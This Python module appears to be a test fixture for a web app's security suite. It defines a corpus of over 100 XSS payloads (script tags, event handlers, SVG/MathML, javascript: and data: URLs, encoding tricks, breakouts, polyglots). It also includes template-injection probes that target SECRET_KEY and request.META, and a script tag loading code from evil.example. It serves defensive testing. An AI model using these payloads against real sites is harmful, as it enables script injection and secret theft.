"""The XSS corpus: strings a person could type into any field, each trying to run script where it is shown.

Every payload that would run calls `alert(...)` or `print()` or sets `location` (a dialog or a navigation
the renderer sees), carries an `on*` handler, a `javascript:`/`data:` URL, or evaluates a template
expression to SSTI_PRODUCT. tests/security/xss.py renders pages and fails on any of those effects.
"""

from __future__ import annotations

import os

# {{7777*7777}} and friends: a template engine that evaluates user text would print this number.
SSTI_PRODUCT = "60481729"

_CLASSIC = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert('XSS')</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script>/*</script>*/alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>eval('al'+'ert(1)')</script>",
]

_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert('XSS')\">",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<p onclick=alert(1)>click</p>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe onload=alert(1)></iframe>",
    "<object data=x onerror=alert(1)></object>",
    "<a onmouseover=alert(1) href=#>x</a>",
    "<b onmouseover=alert(1)>bold</b>",
    "<em onclick=alert(1)>em</em>",
    "<blockquote onmouseenter=alert(1)>q</blockquote>",
    "<li onclick=alert(1)>li</li>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<style onload=alert(1)></style>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<body/onpageshow=alert(1)>",
    "<img src=x onerror=print()>",
]

_SVG_MATH = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><set attributeName=onload to=alert(1)></set></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>CLICKME</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg><use href=data:image/svg+xml;base64,"
    "PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48L3N2Zz4=#x>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
]

_URLS = [
    "<a href=javascript:alert(1)>link</a>",
    "<a href=\"javascript:alert('XSS')\">link</a>",
    "<a href=JaVaScRiPt:alert(1)>link</a>",
    '<a href=" javascript:alert(1)">link</a>',
    '<a href="java\tscript:alert(1)">link</a>',
    '<a href="java&#x09;script:alert(1)">link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">link</a>',
    '<a href="&#x6A;avascript:alert(1)">link</a>',
    '<a href="javascript&colon;alert(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<a href="data:text/html,<script>alert(1)</script>">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<img src=javascript:alert(1)>",
    "javascript:alert(1)",
    "[link](javascript:alert(1))",
    '<a href="https://example.org" onclick="alert(1)">ok link</a>',
]

_ENTITIES_UNICODE = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "<img src=x o\u200bnerror=alert(1)>",
    "\u202e<img src=x onerror=alert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
    '&#0000058alert(1)">x</a>',
]

_BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '"/><svg onload=alert(1)>',
    "--><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "]]><script>alert(1)</script>",
    "';alert(1);//",
    '";alert(1);//',
    "</script><img src=x onerror=alert(1)>",
    '\\";alert(1);//',
    "`;alert(1);//",
    "</style><script>alert(1)</script>",
    '" style="background:url(javascript:alert(1))',
    '<div style="width:expression(alert(1))">x</div>',
]

_TEMPLATES = [
    "{{7777*7777}}",
    "{{ 7777*7777 }}",
    "${7777*7777}",
    "#{7777*7777}",
    "<%= 7777*7777 %>",
    "{% templatetag openvariable %}7777*7777{% templatetag closevariable %}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{request.META}}",
    "{% debug %}",
    "{{settings.SECRET_KEY}}",
]

_POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "'\"-->]]>*/</script></style></title></textarea><img src=x onerror=alert(1)>",
    "\"'><svg/onload=alert(1)><!--",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    '<a href="https://example.org">ok</a><img src=x onerror=alert(1)>',
    "<p>plain <strong>bold</strong> <em>it</em></p><script>alert(1)</script>",
    "<ul><li>uno</li><li onclick=alert(1)>dos</li></ul>",
    "<table><tr><td background=javascript:alert(1)>x</td></tr></table>",
    "<img src=x onerror=\"location='javascript:alert(1)'\">",
    "<div id=x tabindex=1 onfocusin=alert(1)>focus</div>",
]

PAYLOADS: tuple[str, ...] = tuple(
    _CLASSIC + _HANDLERS + _SVG_MATH + _URLS + _ENTITIES_UNICODE + _BREAKOUTS + _TEMPLATES + _POLYGLOTS
)

if os.environ.get("DATABASE_URL", "").startswith(("postgres://", "postgresql://")):
    # PostgreSQL stores no NUL in text or JSON, and every form refuses it (Django's null-character
    # validator); writers that go straight to the models get the payload with the NUL taken out.
    PAYLOADS = tuple(dict.fromkeys(p.replace("\x00", "") for p in PAYLOADS))

assert len(PAYLOADS) >= 100, len(PAYLOADS)
assert len(set(PAYLOADS)) == len(PAYLOADS), "duplicate payloads"


def short(payload: str, limit: int) -> str:
    """The payload cut to a field's length (a field that refuses long text still gets the dangerous head)."""
    return payload[:limit]
